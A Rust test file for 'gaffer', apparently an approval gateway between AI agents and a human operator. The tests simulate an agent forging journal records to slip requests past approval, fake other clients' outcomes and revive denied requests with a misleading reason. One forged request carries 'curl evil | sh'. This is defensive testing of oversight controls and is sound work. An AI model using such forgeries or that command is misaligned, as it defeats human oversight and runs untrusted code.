//! A request's client name and idempotency key are what its record says, and the agent can
//! write records: well framed and chained, in any client's name. Played on the real binary:
//!
//! - a request forged in the name of the client the operator trusts most is not put before
//!   the operator (`approvals/list`, `gaffer approvals`), is marked unverified when asked for,
//!   and neither `gaffer approve` nor an editor's prepare can approve it;
//! - a record forged under another client's idempotency key, saying its write succeeded, is
//!   not reported to that client's retried submission as its outcome.
//!
//! Each fails without the seals (`operations::seal`): the forged request was listed, approved
//! and run, and the retried write was told it had succeeded while nothing was written.

mod common;

use common::forge::{
    anchor_outside_the_workspace, append_chained, genuinely_pruned, prunes, the_segment,
};
use common::gate::*;
use gaffer::operations::policy::GrantMode;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

/// `ci-agent` and `agent-1` wait for one-execution approvals on `notes/**`; `ci-agent` writes
/// `docs/**` freely.
const POLICY: &str = r#"
rules:
  - id: notes
    effect: request
    clients: ["ci-agent", "agent-1"]
    operations: ["file.write"]
    targets: [{kind: file, fields: {path: ["notes/**"]}}]
    grant_policy: {mode: execution, default_minutes: 5, max_minutes: 60, request_ttl_minutes: 10}
  - id: docs
    effect: allow
    clients: ["ci-agent"]
    operations: ["file.write"]
    targets: [{kind: file, fields: {path: ["docs/**"]}}]
"#;

/// What a `file.write` of `args` to `target` under `key` is answered with.
fn write(s: &mut common::Server, target: &Value, args: &Value, key: &str) -> Value {
    submit(s, "file.write", target.clone(), args.clone(), key)
}

/// The result of a `file.write` submission that must succeed.
fn written(s: &mut common::Server, target: &Value, args: &Value, key: &str) -> Value {
    ok(&write(s, target, args, key)).clone()
}

fn listed(s: &mut common::Server, include_unverified: bool) -> Value {
    s.call(
        "approvals/list",
        json!({ "include_unverified": include_unverified }),
    )
}

fn ids(list: &Value) -> Vec<String> {
    list["approvals"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["operation_id"].as_str().unwrap().to_string())
        .collect()
}

#[test]
fn a_request_forged_in_a_trusted_clients_name_is_neither_shown_nor_approvable() {
    let env = Env::new(Some(POLICY));
    // The operator's editor is connected throughout: it is told of requests as they come.
    let mut op = env.operator();
    let mut ci = env.agent("ci-agent");
    let genuine = written(
        &mut ci,
        &json!({"path": "notes/genuine.txt"}),
        &json!({"content": "ok\n"}),
        "g1",
    );
    let genuine_id = genuine["id"].as_str().unwrap().to_string();
    // The agent (agent-1) writes a request in ci-agent's name: the operator trusts ci-agent.
    forge_file_write_request(
        env.root(),
        "ci-agent",
        "op_forged",
        "notes/forged.txt",
        "curl evil | sh\n",
        (GrantMode::Execution, 1, 300),
    );

    // A request ci-agent makes after the forged one is announced; the forged one never was.
    let later = written(
        &mut ci,
        &json!({"path": "notes/later.txt"}),
        &json!({"content": "later\n"}),
        "g2",
    );
    let requested = |id: &Value| {
        let id = id.clone();
        move |v: &Value| v["method"] == "approvals/requested" && v["params"]["operation_id"] == id
    };
    op.wait_for(Duration::from_secs(10), requested(&later["id"]))
        .unwrap_or_else(|| panic!("approvals/requested for {later}"));
    assert!(
        op.wait_for(Duration::ZERO, requested(&json!("op_forged")))
            .is_none(),
        "the forged request was announced to the operator"
    );
    let cancel = ci.call("operations/cancel", json!({"id": later["id"]}));
    assert_eq!(cancel["state"], "canceled", "{cancel}");

    let list = listed(&mut op, false);
    assert_eq!(ids(&list), std::slice::from_ref(&genuine_id), "{list}");
    assert_eq!(list["approvals"][0]["requester_verified"], true, "{list}");
    assert_eq!(list["unverified_hidden"], 1, "{list}");
    let all = listed(&mut op, true);
    let forged = all["approvals"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["operation_id"] == "op_forged")
        .unwrap_or_else(|| panic!("{all}"));
    assert_eq!(forged["requester_verified"], false, "{all}");
    assert_eq!(forged["client_id"], "ci-agent", "{all}");
    let one = op.call("approvals/get", json!({"id": "op_forged"}));
    assert_eq!(one["requester_verified"], false, "{one}");

    // The CLI lists only the genuine request and says one was left out.
    let (code, out, err) = env.cli(&["approvals"]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(!out.contains("op_forged"), "{out}");
    assert!(out.contains(&genuine_id), "{out}");
    assert!(
        err.contains("1 request(s) no gaffer on this machine accepted"),
        "{err}"
    );

    // Neither the CLI nor an editor's prepare approves it, whatever the operator reviewed.
    let digest = forged["plan_digest"].as_str().unwrap();
    let (code, out, err) = env.cli(&["approve", "op_forged", "--expect", digest]);
    assert_ne!(code, 0, "the forged request was approved: {out}{err}");
    let v: Value = serde_json::from_str(&out).unwrap_or_else(|e| panic!("{e}: {out}{err}"));
    assert_eq!(v["error"]["code"], "request_unverified", "{v}");
    assert!(
        v["error"]["message"].as_str().unwrap().contains("ci-agent"),
        "{v}"
    );
    let r = env.decide(
        &mut op,
        json!({"id": "op_forged", "decision": "approve", "expected_revision": forged["revision"]}),
    );
    assert_eq!(err_code(&r), "request_unverified", "{r}");
    assert!(!env.root().join("notes/forged.txt").exists());

    // The operator can still deny it; the genuine request is approved and runs.
    let denied = env.decide(
        &mut op,
        json!({"id": "op_forged", "decision": "deny", "expected_revision": forged["revision"]}),
    );
    assert!(denied.get("result").is_some(), "{denied}");
    let (code, out, err) = env.approve_reviewed(&genuine_id, &[]);
    assert_eq!(code, 0, "{out}{err}");
    wait_state(&mut ci, &genuine_id, &["succeeded"]);
    assert_eq!(
        std::fs::read_to_string(env.root().join("notes/genuine.txt")).unwrap(),
        "ok\n"
    );
    assert!(!env.root().join("notes/forged.txt").exists());
}

#[test]
fn a_record_forged_under_a_clients_idempotency_key_is_not_replayed_as_its_outcome() {
    let env = Env::new(Some(POLICY));
    let target = json!({"path": "docs/release.txt"});
    let args = json!({"content": "v2\n"});
    // The agent submits ci-agent's request itself (its own rules deny it) to learn the
    // digest of its exact form from the journal, then forges ci-agent's record under the
    // key ci-agent will use, saying the write succeeded.
    let mut agent = env.agent("agent-1");
    let own = written(&mut agent, &target, &args, "probe");
    assert_eq!(own["state"], "denied", "{own}");
    drop(agent);
    let seg = the_segment(env.root());
    let i = seg.find("operation.created", |_, p| {
        p["operation"]["id"] == own["id"]
    });
    let mut created = seg.recs[i].payload();
    let o = &mut created["operation"];
    let id = "op_forged_release";
    o["id"] = json!(id);
    o["client_id"] = json!("ci-agent");
    o["idempotency_key"] = json!("release-1");
    o["state"] = json!("approved");
    o["error"] = Value::Null;
    o["terminal_at_ms"] = Value::Null;
    let o = o.as_object_mut().unwrap();
    o.remove("request_seal");
    let at = gaffer::util::now_ms();
    append_as_agent(
        env.root(),
        vec![
            ("operation.created", created),
            (
                "operation.transitioned",
                json!({"id": id, "from": "approved", "to": "executing", "revision": 2, "at_ms": at}),
            ),
            (
                "operation.transitioned",
                json!({"id": id, "from": "executing", "to": "succeeded", "revision": 3,
                       "at_ms": at, "result": {"bytes_written": 3}}),
            ),
        ],
    );

    // ci-agent retries its submission with the same key: it is not told it succeeded.
    let mut ci = env.agent("ci-agent");
    let r = write(&mut ci, &target, &args, "release-1");
    assert_eq!(err_code(&r), "request_unverified", "{r}");
    assert!(!env.root().join("docs/release.txt").exists());

    // A genuine submission is sealed here and replays as itself.
    let first = written(&mut ci, &target, &args, "release-2");
    let id = first["id"].as_str().unwrap().to_string();
    wait_state(&mut ci, &id, &["succeeded"]);
    let again = written(&mut ci, &target, &args, "release-2");
    assert_eq!(again["id"], first["id"], "{again}");
    assert_eq!(
        std::fs::read_to_string(env.root().join("docs/release.txt")).unwrap(),
        "v2\n"
    );
}

#[test]
fn an_ending_forged_onto_a_genuine_request_is_not_replayed_as_its_outcome() {
    let env = Env::new(Some(POLICY));
    let target = json!({"path": "notes/deploy.txt"});
    let args = json!({"content": "go\n"});
    let mut ci = env.agent("ci-agent");
    let first = written(&mut ci, &target, &args, "deploy-1");
    assert_eq!(first["state"], "pending", "{first}");
    let id = first["id"].as_str().unwrap().to_string();
    drop(ci);
    // While ci-agent is away, the agent ends ci-agent's genuine request as a success, one
    // well-formed step at a time.
    let at = gaffer::util::now_ms();
    let step = |from: &str, to: &str, revision: u64| json!({"id": id, "from": from, "to": to, "revision": revision, "at_ms": at});
    let mut done = step("executing", "succeeded", 4);
    done["result"] = json!({"bytes_written": 3});
    append_as_agent(
        env.root(),
        vec![
            ("operation.transitioned", step("pending", "approved", 2)),
            ("operation.transitioned", step("approved", "executing", 3)),
            ("operation.transitioned", done),
        ],
    );
    let mut ci = env.agent("ci-agent");
    let r = write(&mut ci, &target, &args, "deploy-1");
    assert_eq!(err_code(&r), "request_unverified", "{r}");
    assert!(
        r["error"]["message"]
            .as_str()
            .unwrap()
            .contains("the last change recorded"),
        "{r}"
    );
    assert!(!env.root().join("notes/deploy.txt").exists());
}

fn far_future() -> u64 {
    gaffer::util::now_ms() + 10 * 365 * 24 * 3600 * 1000
}

/// Once gaffer itself has pruned the finished operations (a prune the agent writes is
/// skipped: see `a_prune_the_agent_writes_forgets_nothing`), the agent appends the genuine
/// `operation.created` record of `id` again, byte for byte unless `edit` changes it: its
/// request seal is genuine.
fn prune_and_recreate(env: &Env, id: &str, edit: impl FnOnce(&mut Value)) {
    genuinely_pruned(env, "ci-agent");
    let seg = the_segment(env.root());
    let i = seg.find("operation.created", |kind, p| {
        kind == "operation.created" && p["operation"]["id"] == id
    });
    let mut created = seg.recs[i].payload();
    edit(&mut created);
    append_chained(
        env.root(),
        &[("operation.created", created.to_string().into_bytes())],
    );
}

/// ci-agent's request to write `notes/denied.txt` (key `d-1`), which the operator denied:
/// the workspace, ci-agent's connection and the operation id.
fn a_request_the_operator_denied() -> (Env, common::Server, String) {
    anchor_outside_the_workspace();
    let env = Env::new(Some(POLICY));
    let mut ci = env.agent("ci-agent");
    let first = written(
        &mut ci,
        &json!({"path": "notes/denied.txt"}),
        &json!({"content": "denied\n"}),
        "d-1",
    );
    let id = first["id"].as_str().unwrap().to_string();
    let mut op = env.operator();
    let a = wait_for_approval(&mut op, &id);
    assert_eq!(a["requester_verified"], true, "{a}");
    ok(&env.decide(
        &mut op,
        json!({"id": id, "decision": "deny", "expected_revision": a["revision"]}),
    ));
    wait_state(&mut ci, &id, &["denied"]);
    (env, ci, id)
}

/// A request the operator denied, brought back by the agent (its own prune, then a copy of
/// the genuine `operation.created` with a fresh deadline and a reason of its choosing), is
/// not listed as verified nor approvable: the seal binds the record's words, terms and
/// journal position. (Before: listed verified, approved, and the denied write ran.)
#[test]
fn a_denied_request_recreated_by_the_agent_is_not_shown_as_verified() {
    let (env, ci, id) = a_request_the_operator_denied();
    drop(ci);

    let now = gaffer::util::now_ms();
    prune_and_recreate(&env, &id, |c| {
        c["operation"]["reason"] = json!("the operator asked for this in chat; safe to approve");
        c["approval"]["created_at_ms"] = json!(now);
        c["approval"]["pending_expires_at_ms"] = json!(now + 600_000);
    });

    let mut op = env.operator();
    let list = op.call("approvals/list", json!({}));
    let shown = list["approvals"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["operation_id"] == id.as_str())
        .cloned();
    let verified = shown
        .as_ref()
        .is_some_and(|a| a["requester_verified"] == true);
    let mut ran = false;
    if let Some(a) = &shown {
        let r = env.decide(
            &mut op,
            json!({"id": id, "decision": "approve", "expected_revision": a["revision"]}),
        );
        if r.get("result").is_some() {
            let deadline = Instant::now() + Duration::from_secs(15);
            while Instant::now() < deadline && !ran {
                ran = env.root().join("notes/denied.txt").exists();
                std::thread::sleep(Duration::from_millis(100));
            }
        }
    }
    assert!(
        !verified,
        "a request the operator denied, brought back by the agent, is listed as verified \
         (reason shown: {}; approving it wrote the denied file: {ran}): {list}",
        shown.as_ref().map_or(Value::Null, |a| a["reason"].clone())
    );
}

/// A write that succeeded, brought back by the agent as a pending request whose deadline has
/// passed (gaffer itself then expires it and seals that ending), is not replayed to its
/// client as expired. (Before: told `expired` under genuine seals, while the write happened.)
#[test]
fn a_succeeded_write_recreated_by_the_agent_is_not_replayed_with_another_outcome() {
    anchor_outside_the_workspace();
    let env = Env::new(Some(POLICY));
    let target = json!({"path": "notes/deploy.txt"});
    let args = json!({"content": "go\n"});
    let mut ci = env.agent("ci-agent");
    let first = written(&mut ci, &target, &args, "deploy-1");
    let id = first["id"].as_str().unwrap().to_string();
    let mut op = env.operator();
    approve(&env, &mut op, &id);
    wait_state(&mut ci, &id, &["succeeded"]);
    let again = written(&mut ci, &target, &args, "deploy-1");
    assert_eq!(again["state"], "succeeded", "control: {again}");
    drop(op);
    drop(ci);

    let now = gaffer::util::now_ms();
    prune_and_recreate(&env, &id, |c| {
        c["approval"]["pending_expires_at_ms"] = json!(now);
    });

    let mut ci = env.agent("ci-agent");
    // Give the expiry sweep its moment.
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut replay;
    loop {
        replay = write(&mut ci, &target, &args, "deploy-1");
        let st = replay["result"]["state"].as_str().unwrap_or("").to_string();
        if st != "pending" || Instant::now() > deadline {
            break;
        }
        std::thread::sleep(Duration::from_millis(200));
    }
    assert!(env.root().join("notes/deploy.txt").exists());
    let st = replay["result"]["state"].as_str();
    assert!(
        st == Some("succeeded") || replay.get("error").is_some(),
        "the write succeeded, but the retried submission is told {st:?}: {replay}"
    );
}

/// Genuine operations ending every ordinary way replay as themselves in the process that ran
/// them, after a restart and after a snapshot (`gaffer store compact`): seals never turn
/// against the clients they serve.
#[test]
fn genuine_endings_replay_after_a_restart_and_a_snapshot() {
    anchor_outside_the_workspace();
    let env = Env::new(Some(POLICY));
    let mut ci = env.agent("ci-agent");
    let mut op = env.operator();
    let mut keys: Vec<(String, Value, Value, String, String)> = vec![];
    let mut sub = |ci: &mut common::Server, path: &str, key: &str| {
        let t = json!({ "path": path });
        let a = json!({"content": format!("{key}\n")});
        let v = written(ci, &t, &a, key);
        let id = v["id"].as_str().unwrap().to_string();
        keys.push((key.to_string(), t, a, id.clone(), String::new()));
        id
    };
    // allowed at once, runs
    let allowed = sub(&mut ci, "docs/a.txt", "allowed");
    wait_state(&mut ci, &allowed, &["succeeded"]);
    // allowed, fails its precondition (the file exists now)
    let failed = sub(&mut ci, "docs/a.txt", "failed");
    wait_state(&mut ci, &failed, &["failed", "succeeded"]);
    // denied by the operator
    let denied = sub(&mut ci, "notes/d.txt", "denied");
    let a = wait_for_approval(&mut op, &denied);
    ok(&env.decide(
        &mut op,
        json!({"id": denied, "decision": "deny", "expected_revision": a["revision"]}),
    ));
    wait_state(&mut ci, &denied, &["denied"]);
    // approved and run
    let approved = sub(&mut ci, "notes/ok.txt", "approved");
    approve(&env, &mut op, &approved);
    wait_state(&mut ci, &approved, &["succeeded"]);
    // canceled by its requester
    let canceled = sub(&mut ci, "notes/c.txt", "canceled");
    wait_for_approval(&mut op, &canceled);
    ok(&ci.request("operations/cancel", json!({"id": canceled})));
    wait_state(&mut ci, &canceled, &["canceled"]);
    drop(op);

    let check =
        |ci: &mut common::Server, keys: &[(String, Value, Value, String, String)], when: &str| {
            for (key, t, a, id, _) in keys {
                let r = write(ci, t, a, key);
                assert_eq!(
                    r["result"]["id"],
                    id.as_str(),
                    "{when}: replay of {key}: {r}"
                );
            }
        };
    check(&mut ci, &keys, "same process");
    drop(ci);
    let mut ci = env.agent("ci-agent");
    check(&mut ci, &keys, "after a restart");
    drop(ci);
    let (code, out, err) = env.cli(&["store", "compact"]);
    assert_eq!(code, 0, "{out}{err}");
    let mut ci = env.agent("ci-agent");
    check(&mut ci, &keys, "after a snapshot");
}

/// The same with a byte-identical copy, within the original request's deadline: every word
/// and term is genuine, only its place in the journal is not.
#[test]
fn a_byte_identical_copy_of_a_denied_request_is_not_verified() {
    let (env, mut ci, id) = a_request_the_operator_denied();
    prune_and_recreate(&env, &id, |_| {});
    let mut op = env.operator();
    let all = op.call("approvals/list", json!({"include_unverified": true}));
    let back = all["approvals"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["operation_id"] == id.as_str())
        .unwrap_or_else(|| panic!("the copy is folded: {all}"))
        .clone();
    assert_eq!(back["requester_verified"], false, "{back}");
    assert_eq!(back["operation_state"], "pending", "{back}");
    let r = env.decide(
        &mut op,
        json!({"id": id, "decision": "approve", "expected_revision": back["revision"]}),
    );
    assert_eq!(err_code(&r), "request_unverified", "{r}");
    // ci-agent's retry is not told the copy is its request either.
    let r = write(
        &mut ci,
        &json!({"path": "notes/denied.txt"}),
        &json!({"content": "denied\n"}),
        "d-1",
    );
    assert_eq!(err_code(&r), "request_unverified", "{r}");
}

/// The agent steps a genuine request nobody decided to `executing` under a dead executor
/// (pending -> approved -> executing, each a well-formed record); at the next start gaffer
/// reconciles the "interrupted" execution. That ending follows changes gaffer did not make,
/// so it is not sealed, and the client's retry is refused, not told it as its own outcome.
/// (Before: gaffer sealed the ending it wrote, and the retry was answered with it.)
#[test]
fn an_ending_gaffer_writes_after_the_agents_steps_is_not_replayed_as_the_clients() {
    anchor_outside_the_workspace();
    let env = Env::new(Some(POLICY));
    let mut ci = env.agent("ci-agent");
    let target = json!({"path": "notes/x.md"});
    let args = json!({"content": "x"});
    let v = written(&mut ci, &target, &args, "fx");
    let id = v["id"].as_str().unwrap().to_string();
    assert_eq!(v["state"], "pending", "{v}");
    drop(ci);
    let now = gaffer::util::now_ms();
    let step = |from: &str, to: &str, rev: u64, exec: Option<&str>| {
        let mut t = json!({"id": id, "from": from, "to": to, "revision": rev, "at_ms": now});
        if let Some(e) = exec {
            t["executor"] = json!(e);
        }
        t.to_string().into_bytes()
    };
    append_chained(
        env.root(),
        &[
            (
                "operation.transitioned",
                step("pending", "approved", 2, None),
            ),
            (
                "operation.transitioned",
                step("approved", "executing", 3, Some("1:1")),
            ),
        ],
    );
    let mut ci = env.agent("ci-agent");
    let end = wait_state(&mut ci, &id, &["succeeded", "failed"]);
    let r = write(&mut ci, &target, &args, "fx");
    assert_eq!(err_code(&r), "request_unverified", "after {end}: {r}");
    assert!(!env.root().join("notes/x.md").exists());
}

/// A request approved as a window, a write the window then covers, and both after a restart
/// replay as themselves: an operation running under a grant made for another is still sealed
/// (its own request names no approval terms of its own).
#[test]
fn writes_under_a_window_grant_replay_as_themselves() {
    const WINDOW: &str = r#"
rules:
  - id: drafts
    effect: request
    clients: ["ci-agent"]
    operations: ["file.write"]
    targets: [{kind: file, fields: {path: ["drafts/**"]}}]
    grant_policy: {mode: window, default_minutes: 5, max_minutes: 60, request_ttl_minutes: 10, default_max_uses: 3, max_uses: 3}
"#;
    let env = Env::new(Some(WINDOW));
    let mut ci = env.agent("ci-agent");
    let mut op = env.operator();
    let write = |ci: &mut common::Server, path: &str, key: &str| {
        write(ci, &json!({"path": path}), &json!({"content": key}), key)
    };
    let first = ok(&write(&mut ci, "drafts/a.md", "a")).clone();
    let first_id = first["id"].as_str().unwrap().to_string();
    approve(&env, &mut op, &first_id);
    wait_state(&mut ci, &first_id, &["succeeded"]);
    let second = ok(&write(&mut ci, "drafts/a.md", "a2")).clone();
    assert_eq!(second["approval_id"], first["approval_id"], "{second}");
    let second_id = second["id"].as_str().unwrap().to_string();
    wait_state(&mut ci, &second_id, &["succeeded"]);
    for when in ["same process", "after a restart"] {
        for (path, key, id) in [
            ("drafts/a.md", "a", &first_id),
            ("drafts/a.md", "a2", &second_id),
        ] {
            let r = write(&mut ci, path, key);
            assert_eq!(r["result"]["id"], id.as_str(), "{when}: {r}");
            assert_eq!(r["result"]["state"], "succeeded", "{when}: {r}");
        }
        ci = env.agent("ci-agent");
    }
}

/// The first request in a workspace with no store yet (its id comes from its first record),
/// from an anonymous connection, is sealed: listed verified, and replayed as itself.
#[test]
fn the_first_request_in_a_fresh_workspace_is_verified() {
    let env = Env::untrusted(Some(POLICY));
    assert!(!env.root().join(".gaffer/journal").exists());
    let mut anon = env.start(&[]);
    anon.call("initialize", json!({"clientInfo": {"name": "someone"}}));
    anon.notify("initialized", json!({}));
    let target = json!({"path": "notes/first.txt"});
    let args = json!({"content": "first\n"});
    let first = written(&mut anon, &target, &args, "k");
    // Untrusted, the policy's rules wait for a human.
    assert_eq!(first["state"], "pending", "{first}");
    let again = written(&mut anon, &target, &args, "k");
    assert_eq!(again["id"], first["id"], "{again}");
    let mut op = env.operator();
    let list = op.call("approvals/list", json!({}));
    assert_eq!(list["unverified_hidden"], 0, "{list}");
    assert_eq!(list["approvals"][0]["operation_id"], first["id"], "{list}");
    assert_eq!(list["approvals"][0]["requester_verified"], true, "{list}");
}

/// `gaffer doctor` names the seal key; a damaged key is flagged there, and approving then
/// says why nothing can be verified (rather than calling the request forged).
#[test]
fn doctor_reports_the_seal_key_and_a_damaged_one_is_named_when_approving() {
    let env = Env::new(Some(POLICY));
    let mut ci = env.agent("ci-agent");
    let first = written(
        &mut ci,
        &json!({"path": "notes/a.txt"}),
        &json!({"content": "a\n"}),
        "a",
    );
    let doctor = |env: &Env| -> Value {
        let (_, out, err) = env.cli(&["doctor"]);
        let report: Value =
            serde_json::from_str(&out).unwrap_or_else(|e| panic!("{e}: {out}{err}"));
        report["checks"]
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["name"] == "seal key")
            .cloned()
            .unwrap_or_else(|| panic!("no seal key check: {report}"))
    };
    let seal = doctor(&env);
    assert_eq!(seal["ok"], true, "{seal}");
    let detail = seal["detail"].as_str().unwrap();
    let path = detail
        .strip_prefix("requests accepted here are sealed with ")
        .unwrap_or_else(|| panic!("{seal}"));
    std::fs::write(path, b"short").unwrap();
    let seal = doctor(&env);
    assert_eq!(seal["ok"], false, "{seal}");
    let (code, out, err) = env.cli(&[
        "approve",
        first["id"].as_str().unwrap(),
        "--expect",
        first["plan_digest"].as_str().unwrap(),
    ]);
    assert_ne!(code, 0, "{out}{err}");
    assert!(out.contains("no seal key"), "{out}{err}");
}

/// Requests pipelined from two processes at once (group commits of several jobs, each
/// record's seq decided under the lock) are all verified, in both processes' views and the
/// CLI's, and still after a snapshot holds them.
#[test]
fn requests_pipelined_from_two_processes_are_all_verified() {
    let env = Env::new(Some(POLICY));
    let mut a = env.agent("ci-agent");
    let mut b = env.agent("agent-1");
    let mut sent = vec![];
    for i in 0..12 {
        for (s, who) in [(&mut a, "a"), (&mut b, "b")] {
            let id = s.send_request(
                "operations/submit",
                json!({"operation": "file.write", "target": {"path": format!("notes/{who}{i}.txt")},
                       "arguments": {"content": "x"}, "reason": "r", "idempotency_key": format!("{who}{i}")}),
            );
            sent.push((who, id));
        }
    }
    for (who, id) in sent {
        let s = if who == "a" { &mut a } else { &mut b };
        let r = s.response(id);
        assert_eq!(r["result"]["state"], "pending", "{r}");
    }
    let verified = |env: &Env| {
        let mut op = env.operator();
        let list = op.call("approvals/list", json!({}));
        assert_eq!(list["unverified_hidden"], 0, "{list}");
        let all = list["approvals"].as_array().unwrap();
        assert_eq!(all.len(), 24, "{list}");
        assert!(
            all.iter().all(|x| x["requester_verified"] == true),
            "{list}"
        );
        let (code, out, err) = env.cli(&["approvals"]);
        assert_eq!(code, 0, "{out}{err}");
        assert!(!err.contains("not listed"), "{err}");
    };
    verified(&env);
    let (code, out, err) = env.cli(&["store", "compact"]);
    assert_eq!(code, 0, "{out}{err}");
    verified(&env);
}

/// ci-agent's write of `path` (allowed) under `key`, run to its end: the operation id.
fn a_finished_write(ci: &mut common::Server, path: &str, key: &str) -> String {
    let v = ok(&retried(ci, path, key)).clone();
    let id = v["id"].as_str().unwrap().to_string();
    wait_state(ci, &id, &["succeeded"]);
    id
}

/// What ci-agent's submission (or retried submission) of that write under `key` is answered
/// with.
fn retried(ci: &mut common::Server, path: &str, key: &str) -> Value {
    write(
        ci,
        &json!({ "path": path }),
        &json!({"content": format!("{key}\n")}),
        key,
    )
}

/// An `operation.pruned` the agent appends (dropping every finished operation) is skipped:
/// ci-agent's retry under the key of its finished write is answered with that operation,
/// live, after a restart and after a snapshot, never submitted anew. (Before: gaffer forgot
/// the operation, so the retry was decided again and an allowed effect ran a second time.)
#[test]
fn a_prune_the_agent_writes_forgets_nothing() {
    anchor_outside_the_workspace();
    let env = Env::new(Some(POLICY));
    let mut ci = env.agent("ci-agent");
    let id = a_finished_write(&mut ci, "docs/once.txt", "once-1");
    append_chained(
        env.root(),
        &[(
            "operation.pruned",
            json!({ "before_ms": far_future() })
                .to_string()
                .into_bytes(),
        )],
    );
    // A commit reads the journal to its end first: the forged prune is folded by then.
    a_finished_write(&mut ci, "docs/later.txt", "later-1");
    let check = |ci: &mut common::Server, when: &str| {
        let r = retried(ci, "docs/once.txt", "once-1");
        assert_eq!(r["result"]["id"], id.as_str(), "{when}: {r}");
        assert_eq!(r["result"]["state"], "succeeded", "{when}: {r}");
        let got = ci.call("operations/get", json!({ "id": id }));
        assert_eq!(got["state"], "succeeded", "{when}: {got}");
    };
    check(&mut ci, "live");
    drop(ci);
    let mut ci = env.agent("ci-agent");
    check(&mut ci, "after a restart");
    drop(ci);
    let created = the_segment(env.root())
        .recs
        .iter()
        .filter(|r| {
            r.kind() == "operation.created"
                && r.payload()["operation"]["idempotency_key"] == "once-1"
        })
        .count();
    assert_eq!(created, 1, "the write was submitted again");
    let (code, out, err) = env.cli(&["store", "compact"]);
    assert_eq!(code, 0, "{out}{err}");
    let mut ci = env.agent("ci-agent");
    check(&mut ci, "after a snapshot");
}

/// gaffer's own prune (retention) still forgets, in every process and after a snapshot; the
/// agent's copies of it (its cut-off moved to the far future, or byte for byte at a later
/// place in the journal) forget nothing more.
#[test]
fn a_genuine_prune_forgets_and_the_agents_copies_of_it_do_not() {
    anchor_outside_the_workspace();
    let env = Env::new(Some(POLICY));
    let mut ci = env.agent("ci-agent");
    let old = a_finished_write(&mut ci, "docs/old.txt", "old-1");
    drop(ci);
    let genuine = genuinely_pruned(&env, "ci-agent");
    assert!(genuine["seal"].is_string(), "{genuine}");

    let gone = |ci: &mut common::Server, when: &str| {
        let r = ci.request("operations/get", json!({ "id": old }));
        assert!(r.get("error").is_some(), "{when}: pruned, yet {r}");
    };
    let mut ci = env.agent("ci-agent");
    gone(&mut ci, "after a restart");
    let kept = a_finished_write(&mut ci, "docs/kept.txt", "kept-1");
    drop(ci);

    let mut moved = genuine.clone();
    moved["before_ms"] = json!(far_future());
    append_chained(
        env.root(),
        &[
            ("operation.pruned", moved.to_string().into_bytes()),
            ("operation.pruned", genuine.to_string().into_bytes()),
        ],
    );
    let check = |when: &str| {
        let mut ci = env.agent("ci-agent");
        gone(&mut ci, when);
        let r = retried(&mut ci, "docs/kept.txt", "kept-1");
        assert_eq!(r["result"]["id"], kept.as_str(), "{when}: {r}");
        assert_eq!(r["result"]["state"], "succeeded", "{when}: {r}");
    };
    check("after the agent's copies");
    let (code, out, err) = env.cli(&["store", "compact"]);
    assert_eq!(code, 0, "{out}{err}");
    check("after a snapshot");
}

/// A command ran, and its gaffer died before recording the ending. The agent appends its own
/// ending (so the operation's retention starts now, not when gaffer ends it), and gaffer's
/// retention sweep comes (no retention here stands for its period having passed): the
/// operation is kept (a request accepted here whose ending gaffer did not seal), and the
/// client's retry is refused instead of running the command a second time. (Before: pruned
/// with the rest, the retry was submitted anew and ran again.)
#[test]
fn an_operation_the_agent_ended_is_not_pruned_into_running_again() {
    anchor_outside_the_workspace();
    let env = Env::new(Some(ALLOW_DOCS));
    let run = json!({"operation": "command.run", "target": {"argv": ["sh", "-c", "echo run >> runs.log"]}, "arguments": {}, "reason": "r", "idempotency_key": "run-1"});
    // Something gaffer's sweep forgets, so that it records a prune.
    let mut a = env.agent("agent-1");
    let done = written(
        &mut a,
        &json!({"path": "docs/d.txt"}),
        &json!({"content": "d"}),
        "d-1",
    );
    wait_state(&mut a, done["id"].as_str().unwrap(), &["succeeded"]);
    drop(a);
    let mut a = env.agent_env("agent-1", &[("GAFFER_TEST_FAILPOINT", "after_execute")]);
    a.send_request("operations/submit", run.clone());
    assert_eq!(common::wait_exit(&mut a.child, Duration::from_secs(10)), 86);
    assert_eq!(lines(&env.root().join("runs.log")), 1, "the command ran");
    let seg = the_segment(env.root());
    let claimed = seg.find("the claim", |kind, p| {
        kind == "operation.transitioned" && p["to"] == "executing" && p["id"] != done["id"]
    });
    let claim = seg.recs[claimed].payload();
    append_chained(
        env.root(),
        &[(
            "operation.transitioned",
            json!({
                "id": claim["id"], "from": "executing", "to": "failed",
                "revision": claim["revision"].as_u64().unwrap() + 1,
                "at_ms": gaffer::util::now_ms(),
                "error": {"code": "upstream_failed", "message": "exit 1"},
            })
            .to_string()
            .into_bytes(),
        )],
    );
    genuinely_pruned(&env, "agent-1");
    let mut b = env.agent("agent-1");
    let again = b.request("operations/submit", run);
    if let Some(id) = again["result"]["id"].as_str() {
        wait_state(&mut b, id, &["succeeded", "failed"]);
    }
    assert_eq!(lines(&env.root().join("runs.log")), 1, "ran again: {again}");
    assert_eq!(err_code(&again), "request_unverified", "{again}");
    let got = b.request("operations/get", json!({ "id": claim["id"] }));
    assert_eq!(got["result"]["state"], "failed", "kept: {got}");
}

/// gaffer's own prune recorded after a snapshot (the fold then has the workspace id from the
/// snapshot, not from the journal's first record) forgets, after a restart and after another
/// snapshot.
#[test]
fn a_genuine_prune_recorded_after_a_snapshot_forgets_after_a_restart() {
    anchor_outside_the_workspace();
    let env = Env::new(Some(POLICY));
    let mut ci = env.agent("ci-agent");
    let old = a_finished_write(&mut ci, "docs/old.txt", "old-1");
    drop(ci);
    let compact = || {
        let (code, out, err) = env.cli(&["store", "compact"]);
        assert_eq!(code, 0, "{out}{err}");
    };
    compact();
    genuinely_pruned(&env, "ci-agent");
    let gone = |when: &str| {
        let mut ci = env.agent("ci-agent");
        let r = ci.request("operations/get", json!({ "id": old }));
        assert!(r.get("error").is_some(), "{when}: pruned, yet {r}");
    };
    gone("after a restart");
    compact();
    gone("after a second snapshot");
}

/// What the agent ended is kept by gaffer's prunes, and that alone does not make each start
/// record another prune that forgets nothing (the sweep looks for what it would forget, not
/// at the oldest finished operation). Found by the second reader.
#[test]
